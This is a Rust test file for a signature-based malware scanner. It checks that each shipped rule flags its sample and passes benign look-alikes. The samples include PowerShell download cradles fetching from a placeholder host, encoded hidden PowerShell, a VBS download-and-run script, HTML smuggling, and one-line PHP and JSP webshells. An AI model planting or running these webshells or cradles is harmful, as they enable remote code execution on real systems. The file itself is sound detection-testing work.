//! The engine, and the shipped rules: each detects what it is for and passes what is near it.

use super::*;
use crate::engine::{Engines, Signatures};
use crate::limits::Limits;
use crate::object::{self, Object};
use crate::report::Report;
use crate::wire::ObjectKind;
use std::collections::BTreeSet;
use std::fs;
use std::time::{Duration, Instant};

fn shipped() -> Signatures {
    let rules = Path::new(env!("CARGO_MANIFEST_DIR")).join("../deploy/rules");
    Signatures::load(&[rules], None).unwrap_or_else(|e| panic!("{e:?}"))
}

fn scan(engines: &mut Engines<'_>, name: &str, data: &[u8]) -> Report {
    let deadline = Instant::now() + Duration::from_secs(60);
    object::scan(
        engines,
        &Limits::default(),
        &Object { name: Some(name), ..Object::new(ObjectKind::File, data, deadline) },
    )
}

fn names(report: &Report) -> Vec<&str> {
    report.findings.iter().map(|f| &*f.name).collect()
}

fn exe() -> Vec<u8> {
    let mut exe = vec![0; 512];
    exe[..2].copy_from_slice(b"MZ");
    exe[0x3c] = 0x80;
    exe[0x80..0x84].copy_from_slice(b"PE\0\0");
    exe
}

fn lnk(command: &str) -> Vec<u8> {
    let mut lnk = b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46".to_vec();
    lnk.resize(0x60, 0);
    lnk.extend(command.encode_utf16().flat_map(u16::to_le_bytes));
    lnk
}

fn ole(content: &[u8]) -> Vec<u8> {
    let project: Vec<u8> = "_VBA_PROJECT".encode_utf16().flat_map(u16::to_le_bytes).collect();
    [b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", &[0; 504][..], &project, content].concat()
}

/// One letter many times, for base64 that is long enough.
fn long(letter: &str) -> String {
    letter.repeat(300)
}

#[test]
fn each_shipped_rule_detects_its_kind() {
    let loaded = shipped();
    let mut engines = Engines::new(&loaded);
    let eicar =
        [&b"X5O!P%@AP[4\\PZX54(P^)7CC)7}"[..], b"$EICAR-STANDARD-ANTIVIRUS-", b"TEST-FILE!$H+H*"]
            .concat();
    let gtube =
        ["XJS*C4JDBQADN1.NSBN3*2IDNEN*", "GTUBE-STANDARD-ANTI-UBE-TEST-EMAIL*C.34X"].concat();
    let samples: Vec<(&str, &str, Vec<u8>)> = vec![
        ("EICAR_Test_File", "x", eicar.clone()),
        ("EICAR_Test_File", "x", [&b"\xef\xbb\xbf\r\n"[..], &eicar, b" \r\n"].concat()),
        ("GTUBE_Test_Message", "x", format!("Subject: test\n\n{gtube}\n").into_bytes()),
        ("Executable_Double_Extension", "invoice.pdf.exe", exe()),
        ("Executable_Double_Extension", "photo.jpg     .scr", exe()),
        ("Executable_Double_Extension", "order.xlsx.lnk", lnk("notepad")),
        ("Executable_Named_As_Document", "invoice.pdf", exe()),
        ("Executable_RTL_Override", "invoice\u{202e}fdp.exe", b"anything".to_vec()),
        ("Office_Macro_AutoExec_Shell", "a.doc", ole(b"\0AutoOpen\0CreateObject(\"WScript.Shell\")")),
        ("RTF_Equation_Object", "a.rtf", b"{\\rtf1{\\object\\objemb{\\*\\objdata 01050000 4571756174696F6E2E33 00}}".to_vec()),
        ("Shortcut_Runs_Interpreter", "a.lnk", lnk("C:\\Windows\\System32\\WindowsPowerShell\\powershell.exe -w hidden -enc AAAA")),
        ("Script_Encoded_PowerShell", "a.bat", format!("@echo off\r\npowershell -nop -enc {}\r\n", long("A")).into_bytes()),
        ("Script_Encoded_PowerShell", "utf16.ps1", {
            let text = format!("PowerShell -EncodedCommand {}", long("B"));
            [&[0xff, 0xfe][..], &text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>()].concat()
        }),
        ("Script_Download_And_Run", "a.vbs", b"Set x = CreateObject(\"MSXML2.XMLHTTP\")\nSet s = CreateObject(\"ADODB.Stream\")\ns.SaveToFile f\nCreateObject(\"WScript.Shell\").Run f".to_vec()),
        ("Script_PowerShell_Cradle", "a.ps1", b"powershell -w hidden IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')".to_vec()),
        ("Script_PowerShell_Cradle", "b.bat", b"powershell -ep bypass \"(New-Object System.Net.WebClient).DownloadString('http://a.example/x') | iex\"".to_vec()),
        ("Html_Smuggling", "a.html", format!("<html><script>var b = atob(\"TVqQ{}\"); var f = new Blob([b]); a.href = URL.createObjectURL(f); a.click();</script>", long("A")).into_bytes()),
        ("Webshell_PHP_Request_Eval", "a.php", b"<?php @eval($_POST['x']); ?>".to_vec()),
        ("Webshell_PHP_Request_Eval", "a.php", b"GIF89a<?php system(base64_decode( $_GET['x'])); ?>".to_vec()),
        ("Webshell_PHP_Packed", "a.php", format!("<?php eval(gzinflate(base64_decode('{}')));", long("A")).into_bytes()),
        ("Webshell_JSP_Exec", "a.jsp", b"<% Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>".to_vec()),
    ];
    for (rule, name, data) in &samples {
        let report = scan(&mut engines, name, data);
        assert!(names(&report).contains(rule), "{rule} on {name}: {report:?}");
    }
    let all: BTreeSet<&str> = loaded.rules().map(|r| r.identifier()).collect();
    let tested: BTreeSet<&str> = samples.iter().map(|s| s.0).collect();
    assert_eq!(all, tested, "a rule without a sample");
    for rule in loaded.rules() {
        let keys: BTreeSet<&str> = rule.metadata().map(|(key, _)| key).collect();
        assert!(
            ["author", "description", "severity"].iter().all(|k| keys.contains(k)),
            "{}",
            rule.identifier()
        );
    }
}

#[test]
fn shipped_rules_pass_what_is_near() {
    let loaded = shipped();
    let mut engines = Engines::new(&loaded);
    let eicar =
        ["X5O!P%@AP[4\\PZX54(P^)7CC)7}", "$EICAR-STANDARD-ANTIVIRUS-", "TEST-FILE!$H+H*"].concat();
    for (name, data) in [
        (
            "about.txt",
            format!("The test file consists of the line {eicar} and nothing else.").into_bytes(),
        ),
        ("setup.exe", exe()),
        ("invoice.pdf", b"%PDF-1.7\n1 0 obj".to_vec()),
        ("jquery.min.js", b"var a = 1".to_vec()),
        ("page.html", b"<script>var x = atob(\"QUJD\"); new Blob([x])</script>".to_vec()),
        ("a.lnk", lnk("C:\\Program Files\\Editor\\editor.exe")),
        ("admin.php", b"<?php echo htmlspecialchars($_GET['q']); $x = base64_decode($y);".to_vec()),
        ("admin.ps1", b"powershell -ExecutionPolicy Bypass -File .\\install.ps1".to_vec()),
        ("letter.doc", ole(b"\0AutoOpen\0MsgBox(\"hello\")")),
    ] {
        let report = scan(&mut engines, name, &data);
        assert!(report.findings.is_empty(), "{name}: {report:?}");
    }
}

#[test]
fn the_shipped_rule_files_are_not_detected() {
    let loaded = shipped();
    let mut engines = Engines::new(&loaded);
    for entry in
        fs::read_dir(Path::new(env!("CARGO_MANIFEST_DIR")).join("../deploy/rules")).unwrap()
    {
        let path = entry.unwrap().path();
        let report = scan(&mut engines, "x", &fs::read(&path).unwrap());
        assert!(report.findings.is_empty(), "{}: {report:?}", path.display());
    }
}

#[test]
fn files_do_not_touch_each_other_and_variables_are_set() {
    let dir = tempfile::tempdir().unwrap();
    let write = |name: &str, text: &str| fs::write(dir.path().join(name), text).unwrap();
    write("a.yar", "rule same { strings: $x = \"needle\" condition: $x }");
    write("b.yar", "global rule never { condition: false } rule same { condition: true }");
    write(
        "c.yar",
        "rule vars { condition: filename == \"A.Exe\" and extension == \".exe\" and filetype == \"EXE\" and filepath == \"A.Exe\" and owner == \"\" }",
    );
    write(
        "d.yar",
        "import \"pe\" import \"math\" import \"hash\" rule modules { condition: pe.is_pe or math.entropy(0, filesize) < 0.0 or hash.md5(0, 1) == \"\" }",
    );
    let loaded =
        Signatures::load(&[dir.path().to_owned()], None).unwrap_or_else(|e| panic!("{e:?}"));
    let mut engines = Engines::new(&loaded);
    assert_eq!(names(&scan(&mut engines, "A.Exe", b"MZ needle")), ["same", "vars"]);
    assert_eq!(names(&scan(&mut engines, "b", b"MZ needle")), ["same"]);
}

#[test]
fn the_version_changes_with_the_rules_only() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("a.yar");
    let version = |text: &str| {
        fs::write(&path, text).unwrap();
        Signatures::load(std::slice::from_ref(&path), None)
            .map(|l| l.version)
            .unwrap_or_else(|e| panic!("{e:?}"))
    };
    let first = version("rule a { condition: true }");
    assert_ne!(first, version("rule a { condition: false }"));
    assert_eq!(first, version("rule a { condition: true }"));
}
